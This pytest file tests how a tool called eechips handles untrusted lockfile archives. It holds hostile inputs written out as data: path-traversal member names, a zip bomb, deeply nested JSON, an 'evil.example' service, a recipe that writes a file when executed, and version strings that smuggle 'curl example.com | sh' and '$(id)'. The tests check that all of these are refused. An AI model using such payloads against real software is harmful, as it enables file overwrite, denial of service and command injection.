"""Lockfiles of others: whatever they hold, reading them ends with an error of eechips, and touches no other file."""

from __future__ import annotations

import contextlib
import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import eechips
from eechips.commands.recorded_service import service_of_source
from eechips.errors import EechipsError, RunMismatchError, StorageError, UsageError
from eechips.files.temporary_names import temporary_name
from eechips.lockfile.lockfile_format import Lockfile, write_lockfile
from eechips.lockfile.lockfile_records import FORMAT
from eechips.manifest import run_signature
from local_tests.support.local_earth_engine import Server
from tests.support.commands import run_command
from tests.support.programs import name_ended_writer

IDENTITY = "a" * 64
HEADER: dict[str, Any] = {
    "lockfile": FORMAT,
    "command": "sample",
    "options": {"dataset": "NAIP", "total": 1},
    "inputs": [],
    "recipe": "sample",
    "identity": IDENTITY,
    "source": "local:demo",
    "datasets": [{"id": "USDA/NAIP/DOQQ"}],
    "versions": {"eechips": "0.2.0"},
    "started": None,
    "finished": None,
    "assets": 1,
    "units": 1,
    "files": 1,
    "bytes": 3,
    "left_out": 0,
    "assembled": [],
    "extensions": [],
    "signature": None,
}
UNIT: dict[str, Any] = {
    "position": 0,
    "id": "b" * 64,
    "unit": {"kind": "point"},
    "name": "chips/b",
    "state": "done",
    "finished": None,
    "expression": "e" * 64,
    "files": [{"file": "chips/b.tif", "bytes": 3, "sha256": "c" * 64}],
}
ASSET: dict[str, Any] = {"id": "USDA/NAIP/DOQQ/m_1", "version": 1_600_000_000_000_000}


def write(path: Path, header: Any = None, units: Any = None, assets: Any = None, **members: bytes) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("lock.json", json.dumps({**HEADER, **(header or {})}))
        for name, lines in (
            ("assets", [ASSET] if assets is None else assets),
            ("units", [UNIT] if units is None else units),
        ):
            archive.writestr(f"{name}.jsonl", "".join(f"{json.dumps(each)}\n" for each in lines))
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def read(path: Path) -> list[Any]:
    with Lockfile(path) as lockfile:
        for locked in lockfile.header.inputs:
            lockfile.read_input(locked)
        list(lockfile.assets())
        return list(lockfile.units())


def test_a_lockfile_is_read(tmp_path: Path) -> None:
    (unit,) = read(write(tmp_path / "a.lock"))
    assert (unit.name, unit.files[0].file) == ("chips/b", "chips/b.tif")


HEADERS: dict[str, dict[str, Any]] = {
    "format": {"lockfile": 99},
    "command": {"command": 3},
    "options": {"options": []},
    "units": {"units": 2},
    "no number": {"units": True},
    "identity": {"identity": "../x"},
    "datasets": {"datasets": [{"id": {}}]},
    "a dataset": {"datasets": [3]},
    "an input": {"inputs": [{"option": "roi", "path": "a", "name": "../../x", "sha256": "d" * 64}]},
    "an input's name": {"inputs": [{"option": "roi", "path": "a", "name": "..", "sha256": "d" * 64}]},
    "an input's digest": {"inputs": [{"option": "roi", "path": "a", "name": "x", "sha256": "../../x"}]},
    "an absent input": {"inputs": [{"option": "roi", "path": "a", "name": "x", "sha256": "d" * 64}]},
    "assembled": {"assembled": [{"file": "../x.tif", "bytes": 1, "sha256": "c" * 64}]},
}


@pytest.mark.parametrize(("version", "cure"), [(1, "eechips lock"), (2, "eechips lock"), (99, "install a newer")])
def test_a_lockfile_of_another_format_is_told_with_what_helps(version: int, cure: str, tmp_path: Path) -> None:
    path = write(tmp_path / "a.lock", {"lockfile": version, "extensions": None})
    with pytest.raises(UsageError, match=f"has format {version}, and this eechips reads {FORMAT}: .*{cure}"):
        Lockfile(path)


@pytest.mark.parametrize("kind", HEADERS)
def test_a_wrong_header_is_refused(kind: str, tmp_path: Path) -> None:
    with pytest.raises((StorageError, UsageError), match=r"a\.lock"):
        read(write(tmp_path / "a.lock", HEADERS[kind]))


UNITS: dict[str, list[dict[str, Any]]] = {
    "path": [{**UNIT, "files": [{"file": "../b.tif", "bytes": 3, "sha256": "c" * 64}]}],
    "absolute path": [{**UNIT, "files": [{"file": "/etc/b.tif", "bytes": 3, "sha256": "c" * 64}]}],
    "the ledger": [{**UNIT, "files": [{"file": "manifest.sqlite", "bytes": 3, "sha256": "c" * 64}]}],
    "run.json": [{**UNIT, "name": "run.json"}],
    "name": [{**UNIT, "name": "../../b"}],
    "no name": [{**UNIT, "name": 3}],
    "id": [{**UNIT, "id": "zz"}],
    "state": [{**UNIT, "state": "planned"}],
    "unit": [{**UNIT, "unit": [1]}],
    "position": [{**UNIT, "position": -1}],
    "order": [UNIT, UNIT],
    "hashes": [{**UNIT, "files": [{**UNIT["files"][0], "hashes": {"size": [1, 1]}}]}],
    "expression": [{**UNIT, "expression": "../x"}],
    "sources": [{**UNIT, "files": [{**UNIT["files"][0], "sources": 5}]}],
    "bands": [{**UNIT, "files": [{**UNIT["files"][0], "bands": "RGB"}]}],
    "nothing": [],
}


@pytest.mark.parametrize(
    "assets", [[], [3], [{}], [{"id": 3}], [{"id": "a", "version": "1"}], [{"id": "a", "version": -1}],
               [{"id": "a", "version": True}], [{"id": "a", "updated": 3}], [ASSET, ASSET]],
)  # fmt: skip
def test_wrong_assets_are_refused(assets: list[Any], tmp_path: Path) -> None:
    with pytest.raises(StorageError, match=r"a\.lock is damaged"):
        read(write(tmp_path / "a.lock", assets=assets))


@pytest.mark.parametrize("kind", UNITS)
def test_a_wrong_unit_is_refused(kind: str, tmp_path: Path) -> None:
    path = write(tmp_path / "a.lock", {"units": len(UNITS[kind])} if kind == "order" else None, UNITS[kind])
    with pytest.raises((StorageError, UsageError), match=r"a\.lock"):
        read(path)


def cut(path: Path) -> None:
    path.write_bytes(path.read_bytes()[:-40])


def bomb(path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("lock.json", json.dumps(HEADER))
        archive.writestr("units.jsonl", b" " * (64 << 20))


def deep(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("lock.json", "[" * 100_000)
        archive.writestr("units.jsonl", "")


def link(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("lock.json", json.dumps(HEADER))
        archive.writestr("units.jsonl", json.dumps(UNIT))
        archive.writestr("../../evil", "x")


def text(path: Path) -> None:
    path.write_text("lock")


def crc(path: Path) -> None:
    data = bytearray(path.read_bytes())
    place = data.find(b"lock.json") + len("lock.json") + 30
    data[place] ^= 255
    path.write_bytes(data)


def other_compression(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_LZMA) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    data = bytearray(path.read_bytes())
    data[data.find(b"lock.json") + len("lock.json") + 20] ^= 255  # lzma.LZMAError is not among zipfile's errors
    path.write_bytes(data)


@pytest.mark.parametrize("damage", [cut, bomb, deep, link, text, crc, other_compression])
def test_damaged_archives_are_refused(damage: Callable[[Path], None], tmp_path: Path) -> None:
    path = write(tmp_path / "a.lock")
    damage(path)
    with pytest.raises((StorageError, UsageError), match=r"a\.lock"):
        read(path)


@pytest.mark.slow
@given(st.binary(min_size=1, max_size=4), st.integers(0, 10_000))
@settings(deadline=None, max_examples=200, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_damage_ends_in_an_error_of_eechips(tmp_path: Path, data: bytes, place: int) -> None:
    path = write(tmp_path / "a.lock")
    whole = bytearray(path.read_bytes())
    place %= len(whole)
    whole[place : place + len(data)] = data
    path.write_bytes(whole)
    with contextlib.suppress(EechipsError):
        read(path)


OPTIONS: dict[str, dict[str, Any]] = {
    "a file of this machine": {"options": {"dataset": "NAIP", "total": 1, "roi": "{file}"}},
    "a record of this machine": {"options": {"dataset": "{file}", "total": 1}},
    "one of several": {"options": {"dataset": ["NAIP", "{file}"], "total": 1}},
    "an endpoint": {"options": {"dataset": "NAIP", "total": 1, "endpoint": "http://127.0.0.1:1"}},
    "credentials": {"options": {"dataset": "NAIP", "total": 1, "credentials": "{file}"}},
    "a folder": {"options": {"dataset": "NAIP", "total": 1, "out": "/tmp/elsewhere"}},
    "local assets": {"options": {"dataset": "NAIP", "total": 1, "local": "/"}},
    "an unknown option": {"options": {"dataset": "NAIP", "totl": 1}},
    "values of no type": {"options": {"dataset": {"a": [1]}, "total": [[]], "size": "x"}},
    "scenes": {"command": "scenes", "options": {"stac": "{file}"}},
    "no command that fetches": {"command": "serve", "options": {}},
    "no command": {"command": "--help", "options": {}},
    "another identity": {"options": {"dataset": "NAIP", "total": 1}},
    "a service": {"source": "https://evil.example"},
    "assets elsewhere": {"source": "local:/home/somebody/assets"},
}


@pytest.mark.parametrize("kind", OPTIONS)
def test_a_lockfile_names_no_files_services_and_folders_of_this_machine(kind: str, tmp_path: Path) -> None:
    secret = tmp_path / "secret.toml"
    secret.write_text("id = 'SECRET'")
    given = json.loads(json.dumps(OPTIONS[kind]).replace("{file}", str(secret)))
    path = write(tmp_path / "a.lock", given)
    out = tmp_path / "out"
    done = run_command("rebuild", path, out, status=2)
    assert "bug in eechips" not in done.stderr
    assert not list(out.rglob("*"))
    with pytest.raises(EechipsError):
        eechips.rebuild(path, out)


@pytest.mark.parametrize("name", ["evil.toml", "evil.parquet", "~evil.json", "..", "C:evil.toml", "Evil"])
def test_a_lockfile_names_no_archive_of_a_file(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    if name != "..":
        (tmp_path / name).write_text("name = 'evil'")
    for source in (f"archive:{name}", f"archive:earth-search + archive:{name}"):
        with pytest.raises(UsageError, match="name it, or another, as `archive`"):
            service_of_source(source, {})
        assert service_of_source(source, {"archive": (name,)}) == {}
        path = write(tmp_path / "a.lock", {"source": source})
        with pytest.raises(UsageError, match="name it, or another, as `archive`"):
            eechips.rebuild(path, tmp_path / "out")
    assert service_of_source("archive:earth-search", {}) == {"archive": ("earth-search",)}


@pytest.mark.slow
def test_a_rebuild_takes_the_endpoint_of_the_environment_as_other_functions_do(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, demo_server: Server
) -> None:
    run = eechips.sample(
        "SRTM",
        roi="-105.1,39.9,-105,40",
        total=2,
        size=16,
        endpoint=demo_server.url,
        project="local",
        quiet=True,
        executor="threads",
        out=tmp_path / "run",
    )
    lockfile = eechips.lock(run, tmp_path / "a.lock")
    with pytest.raises(UsageError, match="name it, or another, as `endpoint`"):
        eechips.rebuild(lockfile, tmp_path / "refused")
    monkeypatch.setenv("EECHIPS_ENDPOINT", demo_server.url)
    rebuilt = eechips.rebuild(lockfile, tmp_path / "again", project="local", quiet=True, executor="threads")
    assert (rebuilt.same, rebuilt.files) == (2, 2)


RECIPE = b"""
from pathlib import Path
from eechips import Table

NEEDS_SERVICE = False
Path("executed").touch()

def get_requests():
    return [1]

def get_result(index, unit):
    return Table([{"value": unit}])
"""


@pytest.mark.parametrize("signature", [None, "0" * 64, "é"])
def test_a_recipe_of_others_is_not_executed(
    signature: str | None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import hashlib

    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("EECHIPS_CACHE", str(tmp_path / "cache"))
    assert run_signature.sign("lockfile", {}) is not None  # this user has a key
    digest = hashlib.sha256(RECIPE).hexdigest()
    locked = {"option": "path", "path": "recipe.py", "name": "recipe.py", "sha256": digest}
    header = {"command": "run", "options": {"path": "recipe.py"}, "inputs": [locked], "source": "",
              "signature": signature}  # fmt: skip
    path = write(tmp_path / "a.lock", header, **{f"inputs/{digest}": RECIPE})
    done = run_command("rebuild", path, "out", status=2)
    assert "executes code: read recipe.py in it, then give --trust" in done.stderr
    assert not (tmp_path / "executed").exists()
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    ("version", "is_advised"), [("0.1.9", True), ("1.0; curl example.com | sh", False), ("$(id)", False), ({}, False)]
)
def test_the_version_of_a_lockfile_stands_in_a_command_only_if_it_is_one(
    version: Any, is_advised: bool, tmp_path: Path
) -> None:
    path = write(tmp_path / "a.lock", {"versions": {"eechips": version}})
    with pytest.raises(RunMismatchError) as caught:
        eechips.rebuild(path, tmp_path / "out", endpoint="http://127.0.0.1:1", project="p", quiet=True)
    assert ("pip install eechips==0.1.9" in str(caught.value)) == is_advised
    assert "curl" not in str(caught.value)
    assert "$(" not in str(caught.value)


def test_a_changed_input_is_refused(tmp_path: Path) -> None:
    locked = {"option": "roi", "path": "a.geojson", "name": "a.geojson", "sha256": "d" * 64}
    path = write(tmp_path / "a.lock", {"inputs": [locked]}, **{f"inputs/{'d' * 64}": b"{}"})
    with pytest.raises(StorageError, match=r"sha256 of a\.geojson is another"):
        read(path)


def test_equal_runs_have_equal_lockfiles(tmp_path: Path) -> None:
    with Lockfile(write(tmp_path / "a.lock")) as lockfile:
        lines, assets = [unit.to_line() for unit in lockfile.units()], [each.to_line() for each in lockfile.assets()]
        for name in ("b.lock", "c.lock"):
            write_lockfile(tmp_path / name, lockfile.header, (), assets, lines)
    assert (tmp_path / "b.lock").read_bytes() == (tmp_path / "c.lock").read_bytes()
    assert [unit.to_line() for unit in read(tmp_path / "b.lock")] == lines


def test_a_lockfile_replaces_what_a_killed_process_has_left_of_it(tmp_path: Path) -> None:
    token = name_ended_writer()
    left = {name: tmp_path / temporary_name(name, token) for name in ("run.lock", "other.lock")}
    for path in left.values():
        path.write_bytes(b"half")
    with Lockfile(write(tmp_path / "first.lock")) as lockfile:
        write_lockfile(tmp_path / "run.lock", lockfile.header, (), (), ())
    assert (left["run.lock"].exists(), left["other.lock"].exists()) == (False, True)
